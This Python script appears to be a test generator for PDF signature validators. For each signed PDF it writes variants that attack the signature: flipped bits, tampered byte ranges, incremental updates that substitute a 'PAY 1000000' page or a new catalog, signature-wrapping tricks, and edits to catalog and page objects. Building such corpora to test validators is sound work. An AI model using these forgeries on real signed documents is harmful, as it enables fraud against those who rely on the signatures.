#!/usr/bin/env python3
"""Attacks on signed PDF files of any producer: forge_pdf.py OUTDIR FILE...

Writes one file per attack, NAME--ATTACK.pdf: universal forgery, incremental saving, wrapping, gap games, byte range games,
catalog, page tree and page tampering, stray bytes. None of them may be judged valid.
"""
import io, logging, os, random, re, sys
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import ArrayObject as A, DictionaryObject as D, NameObject as N, NumberObject as I
from pyhanko.pdf_utils.reader import PdfFileReader

logging.disable(logging.CRITICAL)
RANDOM = random.Random(7)


class Signed:
    def __init__(self, data):
        self.data = data
        reader = PdfFileReader(io.BytesIO(data), strict=False)
        self.catalog, self.catalog_number = reader.root, reader.trailer.raw_get('/Root').idnum
        self.tree_number, self.tree = self.catalog.raw_get('/Pages').idnum, self.catalog['/Pages']
        self.page_number, self.page = self.tree['/Kids'].raw_get(0).idnum, self.tree['/Kids'][0]
        self.content = self.page.raw_get('/Contents').idnum
        self.start = int(re.findall(rb'startxref\s+(\d+)', data)[-1])
        self.is_stream = not data[self.start:self.start + 9].lstrip().startswith(b'xref')
        tables = list(re.finditer(rb'trailer', data))
        tail = data[self.start:] if self.is_stream or not tables else data[tables[-1].start():]
        self.size = int(re.search(rb'/Size\s+(\d+)', tail).group(1))
        found = re.search(rb'/ID\s*\[[^\]]*\]', tail)
        self.identifier = found.group(0) if found else b''
        self.range_match = list(re.finditer(rb'/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]', data))[-1]
        _, self.first, self.second, self.rest = map(int, self.range_match.groups())

    def update(self, objects, stream=None, previous=True, table=True, marker=True, root=None, more=b'', start=None, freed=()):
        out, places = bytearray(self.data), {}
        if out[-1:] not in b'\r\n': out += b'\n'
        for number, body in objects:
            places[number] = len(out)
            out += b'%d 0 obj\n%s\nendobj\n' % (number, body)
        here, size = len(out), max([self.size] + [n + 1 for n, _ in objects])
        chain = (b'/Prev %d ' % self.start if previous else b'') + self.identifier + more
        root = b'/Root %d 0 R ' % (root or self.catalog_number)
        if table and (self.is_stream if stream is None else stream):
            rows = sorted([(n, 1, p, 0) for n, p in places.items()] + [(n, 0, 0, 1) for n in freed] + [(size, 1, here, 0)])
            body = b''.join(bytes([k]) + p.to_bytes(4, 'big') + bytes([g]) for _, k, p, g in rows)
            index = b' '.join(b'%d 1' % row[0] for row in rows)
            out += b'%d 0 obj\n<< /Type /XRef /W [1 4 1] /Index [%s] /Size %d %s%s /Length %d >>\nstream\n%s\nendstream\nendobj\n' % (
                size, index, size + 1, root, chain, len(body), body)
        elif table:
            rows = [(n, b'%010d 00000 n \n' % p) for n, p in places.items()] + [(n, b'0000000000 00001 f \n') for n in freed]
            out += b'xref\n' + (b'' if rows else b'0 0\n') + b''.join(b'%d 1\n%s' % row for row in sorted(rows))
            out += b'trailer\n<< /Size %d %s%s >>\n' % (size, root, chain)
        return bytes(out) + b'startxref\n%d\n' % (here if start is None else start) + (b'%%EOF\n' if marker else b'')


def text(body): return b'<< /Length %d >>\nstream\n%s\nendstream' % (len(body), body)


def written(dictionary, **changes):
    copy = D({k: dictionary.raw_get(k) for k in dictionary})
    for name, value in changes.items():
        if value is None: copy.pop('/' + name, None)
        else: copy[N('/' + name)] = value
    out = io.BytesIO()
    copy.write_to_stream(out, None)
    return out.getvalue()


def attacks(s):
    b, first, second, rest, fresh = s.data, s.first, s.second, s.rest, s.size + 5
    evil = text(b'BT /F1 40 Tf 50 400 Td (PAY 1000000) Tj ET')
    font = b'/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>'
    page = lambda content, more=b'': b'<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R %s %s >>' % (s.tree_number, content, font, more)
    flip = lambda place: b[:place] + bytes([b[place] ^ 1 << RANDOM.randrange(8)]) + b[place + 1:]
    for n in range(4): yield f'bit-before-{n}', flip(RANDOM.randrange(20, first))
    if rest > 4: yield 'bit-after', flip(RANDOM.randrange(second, second + rest - 2))
    gap = lambda filler: b[:first] + filler.ljust(second - first)[:second - first] + b[second:]
    yield 'contents-null', gap(b'null')
    yield 'contents-empty', gap(b'<>')
    yield 'contents-text', gap(b'()')
    yield 'contents-zero', gap(b'<' + b'0' * (second - first - 2) + b'>')
    tail = lambda filler: b[:second - len(filler) - 1] + filler + b[second - 1:]
    yield 'gap-padding', tail(b'1')
    yield 'gap-blank', tail(b'  ')
    yield 'gap-keys', b[:second - 20] + b'> /Reason (evil)'.ljust(20) + b[second:]
    m = s.range_match
    for name, value in (('negative', b'[0 -1 %d %d]' % (second, rest)), ('null', b'null'), ('short', b'[0 %d]' % first), ('zero', b'[0 0 0 0]'),
                        ('huge', b'[0 9999999999 1 1]'), ('real', b'[0 %d.0 %d %d]' % (first, second, rest)), ('whole', b'[0 %d 0 0]' % len(b)),
                        ('six', b'[0 1 1 %d %d %d]' % (first - 1, second, rest)), ('missing', None)):
        filler = b'' if value is None else b'/ByteRange ' + value
        if len(filler) <= m.end() - m.start(): yield 'range-' + name, b[:m.start()] + filler.ljust(m.end() - m.start()) + b[m.end():]
    yield 'junk-before', b'junk' + b
    yield 'junk-after', b + b'junk' * 10
    yield 'object-after', b + b'\n%d 0 obj\n%s\nendobj\n' % (s.page_number, page(s.content))
    yield 'twice', b + b
    yield 'cut', b[:-30]
    for stream in (False, True):
        kind, up = ('stream', 'table')[not stream], lambda objects, **k: s.update(objects, stream=stream, **k)
        yield f'content-{kind}', up([(s.content, evil)])
        yield f'content-unchained-{kind}', up([(s.content, evil)], previous=False)
        yield f'content-freed-{kind}', up([], freed=[s.content])
        yield f'page-{kind}', up([(s.page_number, page(fresh)), (fresh, evil)])
        yield f'root-{kind}', up([(fresh, b'<< /Type /Catalog /Pages %d 0 R >>' % (fresh + 1)), (fresh + 1, b'<< /Type /Pages /Kids [%d 0 R] /Count 1 >>' % (fresh + 2)),
                                  (fresh + 2, page(fresh + 3)), (fresh + 3, evil)], root=fresh)
        yield f'comment-{kind}', up([(s.page_number, page(s.content, b'/Annots [%d 0 R]' % fresh)), (fresh, b'<< /Type /Annot /Subtype /FreeText /Rect [50 50 500 500] /Contents (PAY) /DA (/Helv 40 Tf) >>')])
        yield f'encrypted-{kind}', up([], more=b' /Encrypt << /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>')
    yield 'no-section', s.update([(s.content, evil)], table=False, start=s.start)
    yield 'old-start', s.update([(s.content, evil)], start=s.start)
    yield 'no-marker', s.update([(s.content, evil)], marker=False)
    hidden = b + b'\n%d 0 obj\n%s\nendobj\n' % (s.page_number, page(s.content))
    yield 'hidden-before-update', Signed(hidden).update([])
    yield 'empty-section-unchained', s.update([(s.page_number, page(fresh)), (fresh, evil)], table=False, marker=False) + b'xref\n0 0\ntrailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n' % (s.size, s.catalog_number, s.start)
    evil_page = b'\n%d 0 obj\n%s\nendobj\n' % (s.page_number, page(s.content))
    digits = b[first:second].rstrip(b'>').rstrip(b'0')
    digits += b'0' * (len(digits) % 2 == 0)
    yield 'wrapped', b[:second] + evil_page + b[second:]
    yield 'wrapped-second-range', b[:first] + (digits + b'> /ByteRange [0 %d %d %d]' % (first, second + len(evil_page), rest)).ljust(second - first)[:second - first] + evil_page + b[second:]
    yield 'wrapped-second-contents', b[:first] + (digits + b'> /Contents <00>').ljust(second - first)[:second - first] + b[second:]
    catalog = lambda **k: s.update([(s.catalog_number, written(s.catalog, **k))])
    yield 'catalog-action', catalog(OpenAction=D({N('/S'): N('/JavaScript'), N('/JS'): generic.pdf_string('x')}))
    yield 'catalog-without-form', catalog(AcroForm=None)
    yield 'catalog-empty-form', catalog(AcroForm=D({N('/Fields'): A()}))
    yield 'catalog-layers', catalog(OCProperties=D({N('/OCGs'): A(), N('/D'): D()}))
    yield 'catalog-names', catalog(Names=D({N('/JavaScript'): D()}))
    yield 'catalog-viewer', catalog(ViewerPreferences=D({N('/Direction'): N('/R2L')}))
    yield 'catalog-labels', catalog(PageLabels=D({N('/Nums'): A()}))
    if '/DSS' in s.catalog: yield 'catalog-without-store', catalog(DSS=None)
    if '/Perms' in s.catalog: yield 'catalog-without-permissions', catalog(Perms=None)
    box = A([I(n) for n in (0, 0, 50, 50)])
    tree = lambda **k: s.update([(s.tree_number, written(s.tree, **k))])
    yield from (('tree-turned', tree(Rotate=I(90))), ('tree-cropped', tree(CropBox=box)), ('tree-resources', tree(Resources=D())), ('tree-empty', tree(Kids=A(), Count=I(0))))
    sheet = lambda **k: s.update([(s.page_number, written(s.page, **k))])
    yield from (('page-box', sheet(MediaBox=box)), ('page-turned', sheet(Rotate=I(180))), ('page-resources', sheet(Resources=D())), ('page-unit', sheet(UserUnit=I(9))),
                ('page-action', sheet(AA=D())), ('page-emptied', sheet(Contents=A())), ('page-group', sheet(Group=D({N('/S'): N('/Transparency')}))))


os.makedirs(sys.argv[1], exist_ok=True)
for path in sys.argv[2:]:
    signed = Signed(open(path, 'rb').read())
    for name, data in attacks(signed):
        if data != signed.data: open(f'{sys.argv[1]}/{os.path.basename(path)[:-4]}--{name}.pdf', 'wb').write(data)
